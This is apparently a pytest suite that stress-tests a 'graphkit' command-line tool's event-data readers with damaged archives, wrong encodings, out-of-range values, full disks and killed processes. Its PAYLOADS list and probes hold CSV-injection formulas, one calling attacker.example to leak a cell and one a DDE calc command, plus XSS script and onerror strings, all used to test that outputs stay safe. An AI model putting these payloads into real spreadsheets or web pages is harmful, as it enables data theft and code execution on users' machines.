"""Issue 19's probe set for event data, through the installed ``graphkit`` command.

Each probe is one hostile input or situation a user or an attacker can give the event
commands (truncated and nested archives, wrong formats and field counts, mixed
encodings, huge fields, far dates, NaN and infinity, formulas and scripts in actor
names, wrongly typed Parquet, empty globs, odd paths, full disks, ``kill -9``, hash
seeds) and asserts the one right behaviour: the exit code, the file's status and row
count, a located message, no traceback, nothing half-written, nothing written outside
the paths the user named. With the 80 of tests/cli/test_probes.py they make issue 19's
"at least 140 probes": :data:`PROBES` lists the ones read by ``events describe`` (run in
batches, several files a process, so the set stays fast), the tests below the others.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import re
import signal
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from parts import missing

from conftest import SAMPLES, SYNTHETIC
from graphkit.events.sources import event_source
from graphkit.io.spreadsheet import read_people_csv

pytestmark = pytest.mark.engine

EXE = Path(sys.executable).with_name("graphkit")
COMMAND = [str(EXE)] if EXE.exists() else [sys.executable, "-m", "graphkit"]
ENV = {**os.environ, "PYTHONIOENCODING": "utf-8", "GRAPHKIT_QUIET": ""}


@dataclass
class Run:
    code: int
    out: str
    err: str


def start(*args: str, cwd: Path, env: dict | None = None) -> subprocess.Popen:
    return subprocess.Popen(
        [*COMMAND, *args],
        cwd=cwd,
        env=env or ENV,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
        errors="replace",
    )


def finish(process: subprocess.Popen, timeout: float = 600) -> Run:
    out, err = process.communicate(timeout=timeout)
    assert "Traceback" not in err + out, err
    assert "Exception ignored" not in err, err
    assert "internal error" not in err, err
    return Run(process.returncode, out, err)


def graphkit(*args: str, cwd: Path, env: dict | None = None) -> Run:
    return finish(start(*args, cwd=cwd, env=env))


# -- the inputs --------------------------------------------------------------------------

GDELT = SAMPLES["gdelt2"].read_text(encoding="utf-8").splitlines(keepends=True)
UCDP = SYNTHETIC["ucdp"].read_text(encoding="utf-8")
ACLED = SYNTHETIC["acled"].read_text(encoding="utf-8")
COLUMNS = event_source("gdelt2").columns


_CALLS = iter(range(10, 10_000))


def gdelt(count: int = 20, *, prefix: str = "") -> str:
    """``count`` real GDELT 2.0 rows, their ids prefixed so that every call makes other
    events (a repeated id is read once)."""
    prefix = prefix or str(next(_CALLS))
    return "".join(prefix + line for line in GDELT[:count])


def gdelt_field(column: str, value: str, row: int = 1, count: int = 5) -> str:
    lines = gdelt(count).splitlines(keepends=True)
    fields = lines[row].rstrip("\n").split("\t")
    fields[COLUMNS.index(column)] = value
    lines[row] = "\t".join(fields) + "\n"
    return "".join(lines)


def zipped(members: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def flipped(data: bytes, at: float) -> bytes:
    i = int(len(data) * at)
    return data[:i] + bytes([data[i] ^ 0x10]) + data[i + 1 :]


def encrypted(data: bytes) -> bytes:
    raw = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.index(signature) + offset] |= 0x01
    return bytes(raw)


def ucdp_with(**values: str) -> str:
    rows = list(csv.DictReader(io.StringIO(UCDP)))
    rows[0].update(values)
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def acled_with(**values: str) -> str:
    rows = list(csv.DictReader(io.StringIO(ACLED)))
    rows[0].update(values)
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def stored(text: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("events.CSV", text)
    return buffer.getvalue()


@dataclass(frozen=True)
class Probe:
    """One input read by ``events describe``: its file name and bytes, and what the
    command must say of it."""

    id: str
    format: str
    name: str
    data: Callable[[], bytes | str]
    status: str  # the status line of its (first) file, e.g. "500 rows, 0 problems (read)"
    says: str = ""  # a part of the located problem printed for it ("" for none)
    file: str = ""  # the file (member) the status line names, if not ``name``


UCDP_ROWS = len(UCDP.strip().splitlines()) - 1
ACLED_ROWS = len(list(csv.DictReader(io.StringIO(ACLED))))

PROBES = [
    # archives
    Probe(
        "zip",
        "gdelt2",
        "a.zip",
        lambda: zipped({"a.CSV": gdelt()}),
        "20 rows, 0 problems (read)",
        file="a.zip:a.CSV",
    ),
    Probe(
        "zip-half",
        "gdelt2",
        "b.zip",
        lambda: zipped({"b.CSV": gdelt(400)})[:6000],
        "problems (truncated)",
        "ends early",
        "b.zip:b.CSV",
    ),
    Probe(
        "zip-no-directory",
        "gdelt2",
        "c.zip",
        lambda: zipped({"c.CSV": gdelt()})[:-22],
        "0 rows, 1 problems (truncated)",
        "central directory",
    ),
    Probe(
        "zip-empty",
        "gdelt2",
        "d.zip",
        lambda: zipped({}),
        "0 rows, 1 problems (empty)",
        "a zip archive with at least one data file",
    ),
    Probe(
        "zip-nested",
        "gdelt2",
        "e.zip",
        lambda: zipped({"inner.zip": zipped({"x.CSV": gdelt()})}),
        "0 rows, 1 problems (wrong format)",
        "this member is itself an archive",
        "e.zip:inner.zip",
    ),
    Probe(
        "zip-gzip-inside",
        "gdelt2",
        "f.zip",
        lambda: zipped({"x.CSV.gz": gzip.compress(gdelt().encode())}),
        "0 rows, 1 problems (wrong format)",
        "itself an archive",
        "f.zip:x.CSV.gz",
    ),
    Probe(
        "zip-macos",
        "gdelt2",
        "g.zip",
        lambda: zipped(
            {"__MACOSX/._g.CSV": b"\x00\x05\x16\x07" + bytes(80), "g.CSV": gdelt(prefix="7")}
        ),
        "0 rows, 0 problems (macOS metadata, not data (skipped))",
        file="g.zip:__MACOSX/._g.CSV",
    ),
    Probe(
        "zip-folder-entry",
        "gdelt2",
        "h.zip",
        lambda: zipped({"dir/": b"", "dir/h.CSV": gdelt(prefix="8")}),
        "0 rows, 0 problems (a folder entry, not data (skipped))",
        file="h.zip:dir/",
    ),
    Probe(
        "zip-encrypted",
        "gdelt2",
        "i.zip",
        lambda: encrypted(stored(gdelt())),
        "0 rows, 1 problems (unreadable)",
        "this one is encrypted",
        "i.zip:events.CSV",
    ),
    Probe(
        "zip-flipped-byte",
        "gdelt2",
        "j.zip",
        lambda: flipped(zipped({"j.CSV": gdelt(300, prefix="6")}), 0.5),
        "0 rows, 1 problems (damaged)",
        "none of its rows were kept",
        "j.zip:j.CSV",
    ),
    Probe(
        "zip-stored-flipped",
        "gdelt2",
        "k.zip",
        lambda: flipped(stored(gdelt(50, prefix="5")), 0.5),
        "0 rows, 1 problems (damaged)",
        "CRC-32",
        "k.zip:events.CSV",
    ),
    Probe(
        "gzip-cut",
        "gdelt2",
        "l.CSV.gz",
        lambda: gzip.compress(gdelt(400, prefix="4").encode())[:5000],
        "problems (truncated)",
        "the gzip data ends early",
    ),
    Probe(
        "gzip-flipped",
        "gdelt2",
        "m.CSV.gz",
        lambda: flipped(gzip.compress(gdelt(300, prefix="3").encode()), 0.5),
        "0 rows, 1 problems (damaged)",
        "undamaged gzip data",
    ),
    Probe(
        "not-an-archive",
        "gdelt2",
        "n.zip",
        lambda: b"PK\x03\x04" + bytes(40),
        "problems (truncated)",
        "central directory",
    ),
    # layouts and field counts
    Probe(
        "fields-60",
        "gdelt2",
        "o.tsv",
        lambda: gdelt(3) + "\t".join(["1"] * 60) + "\n",
        "3 rows, 1 problems (read)",
        "found 60",
    ),
    Probe(
        "fields-62",
        "gdelt2",
        "p.tsv",
        lambda: gdelt(3) + "\t".join(["1"] * 62) + "\n",
        "3 rows, 1 problems (read)",
        "found 62",
    ),
    Probe(
        "first-row-short",
        "gdelt2",
        "q.tsv",
        lambda: "a\tb\n" + gdelt(3),
        "0 rows, 1 problems (wrong format)",
        "line 1 has 2",
    ),
    Probe(
        "icews-as-gdelt",
        "gdelt2",
        "r.tsv",
        lambda: SAMPLES["icews"].read_bytes(),
        "0 rows, 1 problems (wrong format)",
        "it looks like format='icews'",
    ),
    Probe(
        "gdelt-header-row",
        "gdelt2",
        "s.tsv",
        lambda: "\t".join(COLUMNS) + "\n" + gdelt(5),
        "5 rows, 0 problems (read)",
    ),
    Probe(
        "crlf",
        "gdelt2",
        "t.tsv",
        lambda: gdelt(5).replace("\n", "\r\n"),
        "5 rows, 0 problems (read)",
    ),
    Probe(
        "blank-lines-between",
        "gdelt2",
        "u.tsv",
        lambda: gdelt(2) + "\n\n\r\n" + gdelt(2),
        "4 rows, 0 problems (read)",
    ),
    # encodings
    Probe(
        "utf16",
        "gdelt2",
        "v.tsv",
        lambda: gdelt(3).encode("utf-16"),
        "0 rows, 1 problems (wrong format)",
        "this file is UTF-16",
    ),
    Probe(
        "utf16-no-bom",
        "gdelt2",
        "w.tsv",
        lambda: gdelt(3).encode("utf-16-le"),
        "0 rows, 1 problems (wrong format)",
        "UTF-16",
    ),
    Probe(
        "windows-1252",
        "gdelt2",
        "x.tsv",
        lambda: gdelt_field("Actor1Name", "CAFÉ").encode("cp1252"),
        "5 rows, 1 problems (read)",
        "UTF-8 text (the line was read as Windows-1252)",
    ),
    Probe(
        "bom-only",
        "gdelt2",
        "y.tsv",
        lambda: b"\xef\xbb\xbf",
        "0 rows, 1 problems (empty)",
        "a file with event rows",
    ),
    Probe(
        "blank-only",
        "gdelt2",
        "z.tsv",
        lambda: "\n" * 5000,
        "0 rows, 1 problems (empty)",
        "a file with event rows",
    ),
    Probe(
        "empty",
        "gdelt2",
        "empty.tsv",
        lambda: b"",
        "0 rows, 1 problems (empty)",
        "the file is empty",
    ),
    # values
    Probe(
        "huge-field",
        "gdelt2",
        "huge.tsv",
        lambda: gdelt_field("Actor1Name", "N" * 600_000),
        "4 rows, 1 problems (read)",
        "a line of at most 524,288 bytes",
    ),
    Probe(
        "far-date",
        "gdelt2",
        "far.tsv",
        lambda: gdelt_field("SQLDATE", "99991231"),
        "5 rows, 0 problems (read)",
    ),
    Probe(
        "nine-digit-date",
        "gdelt2",
        "date9.tsv",
        lambda: gdelt_field("SQLDATE", "100000101"),
        "5 rows, 1 problems (read)",
        "expected a date as YYYYMMDD",
    ),
    Probe(
        "no-such-day",
        "gdelt2",
        "feb30.tsv",
        lambda: gdelt_field("SQLDATE", "20190230"),
        "5 rows, 1 problems (read)",
        "got '20190230'",
    ),
    Probe(
        "nan-score",
        "gdelt2",
        "nan.tsv",
        lambda: gdelt_field("GoldsteinScale", "nan"),
        "5 rows, 1 problems (read)",
        "a number from -10 to 10",
    ),
    Probe(
        "inf-score",
        "gdelt2",
        "inf.tsv",
        lambda: gdelt_field("GoldsteinScale", "-inf"),
        "5 rows, 1 problems (read)",
        "got '-inf'",
    ),
    Probe(
        "huge-count",
        "gdelt2",
        "count.tsv",
        lambda: gdelt_field("NumMentions", "5000000000000000000"),
        "5 rows, 1 problems (read)",
        "an integer from 0 to 2,147,483,647",
    ),
    Probe(
        "negative-count",
        "gdelt2",
        "neg.tsv",
        lambda: gdelt_field("NumArticles", "-4"),
        "5 rows, 1 problems (read)",
        "got '-4'",
    ),
    Probe(
        "quad-5",
        "gdelt2",
        "quad.tsv",
        lambda: gdelt_field("QuadClass", "5"),
        "5 rows, 1 problems (read)",
        "an integer from 1 to 4",
    ),
    Probe(
        "escape-in-actor",
        "gdelt2",
        "esc.tsv",
        lambda: gdelt_field("Actor1Code", "US\x1b[2JA"),
        "5 rows, 1 problems (read)",
        "text without control characters",
    ),
    Probe(
        "formula-actor",
        "gdelt2",
        "formula.tsv",
        lambda: gdelt_field("Actor1Code", '=HYPERLINK("http://x")'),
        "5 rows, 0 problems (read)",
    ),
    # quoted CSV sources
    Probe("ucdp", "ucdp", "ged.csv", lambda: UCDP, f"{UCDP_ROWS} rows, 0 problems (read)"),
    Probe(
        "ucdp-unclosed-quote",
        "ucdp",
        "ged-q.csv",
        lambda: UCDP.replace("Test Wire 2021-03-01", '"Test Wire 2021-03-01', 1),
        f"{UCDP_ROWS - 1} rows, 1 problems (read)",
        "a closing quote for the quote opened on this line",
    ),
    Probe(
        "ucdp-newline-in-value",
        "ucdp",
        "ged-nl.csv",
        lambda: ucdp_with(source_article="Wire,\nline two"),
        f"{UCDP_ROWS} rows, 0 problems (read)",
    ),
    Probe(
        "ucdp-upper-header",
        "ucdp",
        "ged-up.csv",
        lambda: UCDP.split("\n", 1)[0].upper() + "\n" + UCDP.split("\n", 1)[1],
        f"{UCDP_ROWS} rows, 0 problems (read)",
    ),
    Probe(
        "ucdp-missing-column",
        "ucdp",
        "ged-nobest.csv",
        lambda: UCDP.replace(",best,", ",bestest,", 1),
        "0 rows, 1 problems (wrong format)",
        "with the columns 'best'",
    ),
    Probe(
        "ucdp-column-twice",
        "ucdp",
        "ged-twice.csv",
        lambda: UCDP.replace(",best,high,", ",best,best,", 1),
        "0 rows, 1 problems (wrong format)",
        "each column name once",
    ),
    Probe(
        "ucdp-type-4",
        "ucdp",
        "ged-t4.csv",
        lambda: ucdp_with(type_of_violence="4"),
        f"{UCDP_ROWS} rows, 1 problems (read)",
        "an integer from 1 to 3",
    ),
    Probe(
        "ucdp-excel-date",
        "ucdp",
        "ged-excel.csv",
        lambda: ucdp_with(date_start="1-Mar-21"),
        f"{UCDP_ROWS} rows, 0 problems (read)",
    ),
    Probe(
        "ucdp-ambiguous-date",
        "ucdp",
        "ged-amb.csv",
        lambda: ucdp_with(date_start="03/04/21"),
        f"{UCDP_ROWS} rows, 1 problems (read)",
        "can be told apart",
    ),
    Probe(
        "ucdp-semicolons",
        "ucdp",
        "ged-semi.csv",
        lambda: UCDP.replace(",", ";"),
        "0 rows, 1 problems (wrong format)",
        "a UCDP GED header",
    ),
    Probe(
        "acled-as-ucdp",
        "ucdp",
        "acled.csv",
        lambda: ACLED,
        "0 rows, 1 problems (wrong format)",
        "it looks like format='acled'",
    ),
    Probe("acled", "acled", "acled.csv", lambda: ACLED, f"{ACLED_ROWS} rows, 0 problems (read)"),
    Probe(
        "acled-case-spelling",
        "acled",
        "acled-case.csv",
        lambda: acled_with(actor2="TESTLAND LIBERATION FRONT"),
        f"{ACLED_ROWS} rows, 1 problems (read)",
        "differ only in letter case",
    ),
    Probe(
        "acled-old-types",
        "acled",
        "acled-old.csv",
        lambda: acled_with(event_type="Riots/Protests", sub_event_type=""),
        f"{ACLED_ROWS} rows, 0 problems (read)",
    ),
    Probe(
        "acled-negative",
        "acled",
        "acled-neg.csv",
        lambda: acled_with(fatalities="-1"),
        f"{ACLED_ROWS} rows, 1 problems (read)",
        "an integer from 0 to 2,147,483,647",
    ),
    Probe(
        "acled-date-words",
        "acled",
        "acled-words.csv",
        lambda: acled_with(event_date="09 May 2020"),
        f"{ACLED_ROWS} rows, 0 problems (read)",
    ),
]


def batches(probes: list[Probe], problems: int = 9) -> list[list[Probe]]:
    """Probes of one format in groups whose problems all get printed (describe prints
    ten)."""
    groups: list[list[Probe]] = []
    for format in dict.fromkeys(p.format for p in probes):
        group: list[Probe] = []
        for probe in (p for p in probes if p.format == format):
            if group and sum(bool(p.says) for p in group) + bool(probe.says) > problems:
                groups.append(group)
                group = []
            group.append(probe)
        groups.append(group)
    return groups


def test_every_read_probe_is_located_in_its_file(tmp_path):
    assert len({p.id for p in PROBES}) == len(PROBES) >= 50
    runs = []
    for number, group in enumerate(batches(PROBES)):
        folder = tmp_path / f"batch{number}"
        folder.mkdir()
        for n, probe in enumerate(group):
            data = probe.data()
            data = data.encode() if isinstance(data, str) else data
            # each file's events its own (a repeated id is read once)
            data = data.replace(b"\n9000", b"\n%d9000" % n).replace(b"\nSYN", b"\nSYN%d-" % n)
            (folder / probe.name).write_bytes(data)
        names = [p.name for p in group]
        runs.append(
            (group, folder, start("events", "describe", *names, "-f", group[0].format, cwd=folder))
        )
    failures = []
    for group, folder, process in runs:
        run = finish(process)
        listed = {}
        for line in run.out.splitlines():
            match = re.match(r"^  (.+): ([\d,]+ rows, \d+ problems \(.*\))$", line)
            if match:
                listed[match.group(1)] = match.group(2)
        problems = [line for line in run.out.splitlines() if line.startswith("  ")]
        for probe in group:
            file = probe.file or probe.name
            if file not in listed or probe.status not in listed[file]:
                failures.append(
                    f"{probe.id}: {file}: {listed.get(file)!r} (expected {probe.status!r})"
                )
                continue
            if probe.says and not any(
                line.startswith(f"  {probe.file or probe.name}") and probe.says in line
                for line in problems
            ):
                failures.append(f"{probe.id}: no problem saying {probe.says!r}:\n{run.out}")
        assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in group)
    assert not failures, "\n".join(failures)


# -- events build: pages, people's tables, disks, kills, seeds ---------------------------

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
]


def hostile_acled(folder: Path) -> Path:
    """ACLED rows whose actors are formulas and scripts, each fighting the army."""
    rows = list(csv.DictReader(io.StringIO(ACLED)))
    template = rows[0]
    out = []
    for i, name in enumerate(PAYLOADS):
        row = dict(template)
        row.update(event_id_cnty=f"H{i}", actor1=name, actor2="Army of Testland", notes="x")
        row.update(event_date=f"2023-01-{i + 1:02d}", inter1="Rebel group")
        out.append(row)
    path = folder / "hostile.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, list(template), lineterminator="\n")
        writer.writeheader()
        writer.writerows(out)
    return path


def test_formulas_and_scripts_in_actor_names_stay_text_in_page_and_peoples_csvs(tmp_path):
    hostile_acled(tmp_path)
    build = graphkit("events", "build", "hostile.csv", "-f", "acled", "--tables", "t", cwd=tmp_path)
    assert build.code == 0, build.err
    page = (tmp_path / "out" / "events.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page and "<img src=x" not in page  # only as text
    # the tables are program input, exact (README); the people's CSVs are formula-safe
    actors = pd.read_csv(tmp_path / "t" / "actors.csv", keep_default_na=False)
    assert set(PAYLOADS) <= set(actors["id"])
    analyze = graphkit(
        "analyze", "--actors", "t/actors.csv", "--relations", "t/relations.csv",
        "--csv", "people", cwd=tmp_path,
    )  # fmt: skip
    assert analyze.code == 0, analyze.err
    cells = set()
    for path in sorted((tmp_path / "people").iterdir()):
        with path.open(encoding="utf-8", newline="") as handle:
            cells |= {cell for row in csv.reader(handle) for cell in row}
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            float(cell)  # only numbers may start so
    centrality = read_people_csv(tmp_path / "people" / "centrality.csv", index_col=0)
    assert set(PAYLOADS) <= set(centrality.index) | set(centrality["name"])


def test_outputs_that_are_inputs_are_refused_before_reading(tmp_path):
    (tmp_path / "t").mkdir()
    (tmp_path / "t" / "relations.csv").write_text(ACLED, encoding="utf-8")
    (tmp_path / "page.html").write_text(gdelt(5), encoding="utf-8")
    tables = start(
        "events", "build", "t/relations.csv", "-f", "acled", "--tables", "t", cwd=tmp_path
    )
    globbed = start("events", "build", "t/*.csv", "-f", "acled", "--tables", "t/", cwd=tmp_path)
    page = start("events", "build", "page.html", "-f", "gdelt2", "-o", "page.html", cwd=tmp_path)
    for run in (finish(tables), finish(globbed), finish(page)):
        assert run.code == 2 and "is an input of this command" in run.err, run.err
    assert (tmp_path / "t" / "relations.csv").read_text(encoding="utf-8") == ACLED
    assert sorted(p.name for p in tmp_path.iterdir()) == ["page.html", "t"]


def test_usage_and_missing_inputs_are_clear_and_write_nothing(tmp_path):
    (tmp_path / "folder").mkdir()
    runs = [
        start("events", "build", "x.tsv", "-f", "gdelt", cwd=tmp_path),
        start("events", "describe", "nothing*.tsv", "-f", "gdelt2", cwd=tmp_path),
        start("events", "describe", "folder", "-f", "gdelt2", cwd=tmp_path),
        start("events", "describe", "no such.tsv", "-f", "gdelt2", cwd=tmp_path),
        start("events", "build", "-f", "gdelt2", cwd=tmp_path),
    ]
    wrong, empty_glob, folder, absent, none = (finish(r) for r in runs)
    assert wrong.code == 2 and "invalid choice: 'gdelt'" in wrong.err
    assert (
        empty_glob.code == 1
        and "expected files matching this pattern (none found)" in empty_glob.err
    )
    assert folder.code == 1 and "not a directory (to read its files, pass" in folder.err
    assert absent.code == 1 and "no such.tsv: expected an existing file" in absent.err
    assert none.code == 2 and "usage:" in none.err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder"]


def test_names_with_spaces_brackets_quotes_and_non_ascii_are_those_files(tmp_path):
    names = ["events [1].tsv", 'it\'s "q" *.tsv', "ünï cödé.tsv"]
    for name in names:
        (tmp_path / name).write_text(gdelt(10), encoding="utf-8")
    (tmp_path / "events 1.tsv").write_text(gdelt(3), encoding="utf-8")  # what [1] matches
    run = graphkit("events", "describe", *names, "-f", "gdelt2", cwd=tmp_path)
    assert run.code == 0 and run.out.startswith("30 events")
    for name in names:
        assert f"  {name}: 10 rows, 0 problems (read)" in run.out


def test_the_same_file_twice_and_repeated_events_are_counted_once(tmp_path):
    (tmp_path / "a.tsv").write_text(gdelt(10, prefix="1"), encoding="utf-8")
    (tmp_path / "b.tsv").write_text(gdelt(15, prefix="1"), encoding="utf-8")  # 10 the same
    run = graphkit("events", "describe", "a.tsv", "a.tsv", "*.tsv", "-f", "gdelt2", cwd=tmp_path)
    assert run.code == 0 and run.out.startswith("15 events")
    assert "  a.tsv: 0 rows, 0 problems (repeated (read once))" in run.out
    assert (
        "b.tsv, line 1: got '1881990832'; expected an event id not read before (a.tsv, line 1"
        in run.out
    )


def test_wrongly_typed_parquet_is_located_and_a_damaged_one_listed(tmp_path):
    frame = pd.DataFrame(
        [line.rstrip("\n").split("\t") for line in gdelt(4).splitlines(keepends=True)],
        columns=list(COLUMNS),
    )
    typed = frame.astype({"NumMentions": "int64"})
    typed["SQLDATE"] = [20191024.5, 20191024.0, 20191024.0, 20191024.0]
    typed["GoldsteinScale"] = [True, False, True, False]
    typed.to_parquet(tmp_path / "typed.parquet")
    frame.drop(columns=["EventCode"]).to_parquet(tmp_path / "nocode.parquet")
    (tmp_path / "text.parquet").write_text(gdelt(3), encoding="utf-8")
    typed_run = start(
        "events", "describe", "typed.parquet", "text.parquet", "-f", "gdelt2", cwd=tmp_path
    )
    missing_run = start("events", "describe", "nocode.parquet", "-f", "gdelt2", cwd=tmp_path)
    run, absent = finish(typed_run), finish(missing_run)
    assert run.code == 0, run.err
    assert "typed.parquet, line 1, column 'SQLDATE': got '20191024.5'" in run.out
    assert "column 'GoldsteinScale': got 'true'" in run.out
    assert (
        "text.parquet: expected a Parquet file (it is damaged, cut short or not Parquet" in run.out
    )
    assert absent.code == 1 and "a column named 'EventCode'" in absent.err


def test_quiet_after_the_command_and_nothing_outside_the_named_paths(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "e.tsv").write_text(gdelt(30), encoding="utf-8")
    run = graphkit(
        "events", "build", "in/e.tsv", "-f", "gdelt2", "-q", "-o", "p/page.html",
        "--tables", "tables", cwd=tmp_path,
    )  # fmt: skip
    assert run.code == 0, run.err
    assert run.err == ""  # no progress, no warning of a library
    found = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*"))
    assert found == [
        "in", "in/e.tsv", "p", "p/page.html", "tables", "tables/actors.csv",
        "tables/relations.csv",
    ]  # fmt: skip


def test_every_event_filtered_out_is_a_clear_error_and_no_page(tmp_path):
    (tmp_path / "e.tsv").write_text(gdelt(30), encoding="utf-8")
    run = graphkit("events", "build", "e.tsv", "-f", "gdelt2", "--from", "2100-01-01", cwd=tmp_path)
    assert run.code == 1
    assert "events that make relations (none left after the filters and the mapping)" in run.err
    assert not (tmp_path / "out").exists()


def test_far_dates_build_a_page(tmp_path):
    text = gdelt_field("SQLDATE", "00010101", row=0, count=30)
    text = "".join(
        line if n != 1 else line.replace("\t20191024\t", "\t99991231\t", 1)
        for n, line in enumerate(text.splitlines(keepends=True))
    )
    (tmp_path / "e.tsv").write_text(text, encoding="utf-8")
    run = graphkit("events", "build", "e.tsv", "-f", "gdelt2", "--period", "Y", cwd=tmp_path)
    assert run.code == 0, run.err
    assert (tmp_path / "out" / "events.html").stat().st_size > 0


@pytest.mark.slow
def test_every_writer_gives_the_same_bytes_across_runs_and_hash_seeds(tmp_path):
    (tmp_path / "e.tsv").write_text(gdelt(500), encoding="utf-8")
    hostile_acled(tmp_path)
    outputs = []
    for seed in ("0", "1", "4242"):
        env = {**ENV, "PYTHONHASHSEED": seed}
        folder = tmp_path / f"run{seed}"
        gdelt_run = start(
            "events", "build", "e.tsv", "-f", "gdelt2", "-o", f"{folder.name}/g.html",
            "--tables", f"{folder.name}/g", cwd=tmp_path, env=env,
        )  # fmt: skip
        acled_run = start(
            "events", "build", "hostile.csv", "-f", "acled", "-o", f"{folder.name}/a.html",
            "--tables", f"{folder.name}/a", cwd=tmp_path, env=env,
        )  # fmt: skip
        assert finish(gdelt_run).code == 0 and finish(acled_run).code == 0
        outputs.append({p.relative_to(folder): p.read_bytes() for p in folder.rglob("*.*")})
    assert len(outputs[0]) == 6
    assert outputs[0] == outputs[1] == outputs[2]


def mount_small_disk(folder: Path, size: str = "16k") -> None:
    folder.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
        capture_output=True,
        text=True,
    )
    if done.returncode:
        missing(f"cannot mount a small tmpfs to fill a disk ({done.stderr.strip()})")


@pytest.mark.slow
def test_a_full_disk_keeps_the_old_page_and_tables(tmp_path):
    (tmp_path / "e.tsv").write_text(gdelt(500), encoding="utf-8")
    disk = tmp_path / "disk"
    mount_small_disk(disk)
    try:
        (disk / "page.html").write_text("old page\n")
        (disk / "t").mkdir()
        (disk / "t" / "actors.csv").write_text("old actors\n")
        page = graphkit(
            "events", "build", "e.tsv", "-f", "gdelt2", "-o", "disk/page.html", cwd=tmp_path
        )
        assert page.code == 1 and "no space left on the device" in page.err, page.err
        assert (disk / "page.html").read_text() == "old page\n"
        (tmp_path / "ok.html").unlink(missing_ok=True)
        tables = graphkit(
            "events", "build", "e.tsv", "-f", "gdelt2", "-o", "ok.html", "--tables", "disk/t",
            cwd=tmp_path,
        )  # fmt: skip
        assert tables.code == 1 and "no space left on the device" in tables.err, tables.err
        assert sorted(p.name for p in (disk / "t").iterdir()) == ["actors.csv"]
        assert (disk / "t" / "actors.csv").read_text() == "old actors\n"
        assert sorted(p.name for p in disk.iterdir()) == ["page.html", "t"]  # no temporary file
    finally:
        subprocess.run(["umount", str(disk)], check=True)


@pytest.mark.slow
def test_kill_9_during_events_build_leaves_the_old_page_and_no_leftover_kept(tmp_path):
    (tmp_path / "e.tsv").write_text(gdelt(500) * 1, encoding="utf-8")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "events.html").write_text("old page\n")
    killed = 0
    for delay in (1.0, 2.0, 3.0, 4.0):
        process = subprocess.Popen(
            [*COMMAND, "events", "build", "e.tsv", "-f", "gdelt2"], cwd=tmp_path, env=ENV
        )
        threading.Event().wait(delay)
        if process.poll() is None:
            process.send_signal(signal.SIGKILL)
            killed += 1
        process.wait()
        page = (tmp_path / "out" / "events.html").read_text(encoding="utf-8")
        assert page == "old page\n" or page.startswith("<!DOCTYPE html>")  # whole, old or new
        (tmp_path / "out" / "events.html").write_text("old page\n")
    if not killed:
        missing("every build finished before it could be killed")
    assert graphkit("events", "build", "e.tsv", "-f", "gdelt2", cwd=tmp_path).code == 0
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["events.html"]
